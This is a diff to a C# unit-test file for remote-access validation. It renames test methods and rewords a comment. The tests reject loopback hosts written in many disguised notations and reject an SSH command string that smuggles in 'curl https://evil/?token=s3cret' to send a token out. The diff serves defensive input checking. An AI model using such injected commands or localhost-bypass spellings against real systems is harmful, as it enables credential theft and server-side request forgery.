@@ -11,7 +11,7 @@ public class RemoteAccessTests
     [Theory]
     [InlineData("running")]
     [InlineData("Running")]
-    public void Running_WithAddresses_IsReached(string status)
+    public void Running_WithAddresses_IsReachable(string status)
     {
         Instance instance = Make(status, "h");
         Assert.True(RemoteAccess.HasSsh(instance));
@@ -28,7 +28,7 @@ public class RemoteAccessTests
     [InlineData("some\u001b[2Jthing", "h", "is some [2Jthing")]
     [InlineData(null, "h", "unknown state")]
     [InlineData("", "h", "unknown state")]
-    public void Else_IsAConflict_ThatNamesTheWait(string? status, string? text, string part)
+    public void Unreachable_IsAConflict_ThatNamesWaitInstance(string? status, string? text, string part)
     {
         Instance instance = Make(status, text);
         Assert.False(RemoteAccess.HasSsh(instance));
@@ -50,7 +50,7 @@ public class RemoteAccessTests
     }
 
     [Fact]
-    public void Nothing_HasNothing() => Assert.False(RemoteAccess.HasSsh(null) || RemoteAccess.HasJupyter(null));
+    public void Null_HasNeither() => Assert.False(RemoteAccess.HasSsh(null) || RemoteAccess.HasJupyter(null));
 
     [Theory]
     [InlineData("127.0.0.1")]
@@ -67,7 +67,7 @@ public class RemoteAccessTests
     [InlineData("[::ffff:127.0.0.1]")]
     [InlineData("[fe80::1]")]
     [InlineData("[ff02::1]")]
-    public void AServerElsewhere_CannotNameThisMachine(string host)
+    public void RemoteServer_CannotNameThisMachine(string host)
     {
         Instance instance = Make("running", host);
         PulseRunException ssh = Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false));
@@ -79,7 +79,7 @@ public class RemoteAccessTests
         Assert.NotNull(RemoteAccess.Jupyter(instance, allowsLocal: true));
     }
 
-    // ssh's strict grammar refuses these spellings; a browser takes them all.
+    // The ssh grammar rejects these notations, but a browser accepts them all.
     [Theory]
     [InlineData("127.1")]
     [InlineData("0x7f000001")]
@@ -95,7 +95,7 @@ public class RemoteAccessTests
     [InlineData("[64:ff9b::7f00:1]")]
     [InlineData("[2002:7f00:1::]")]
     [InlineData("[fe80::1%25eth0]")]
-    public void AServerElsewhere_CannotNameThisMachine_InNoSpelling(string host)
+    public void RemoteServer_CannotNameThisMachine_InAnyNotation(string host)
     {
         Instance instance = Make("running", host);
         Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)).ErrorId);
@@ -105,7 +105,7 @@ public class RemoteAccessTests
     [Theory]
     [InlineData("ssh -p 22 root@h; curl https://evil/?token=s3cret")]
     [InlineData("ssh s3cret")]
-    public void ARefusedCommand_IsNotQuoted(string command)
+    public void RejectedCommand_IsNotQuoted(string command)
     {
         PulseRunException error = Assert.Throws<PulseRunException>(() => SshCommandLine.Parse(command, "inst_1"));
         Assert.Equal(ErrorIds.InvalidSshCommand, error.ErrorId);
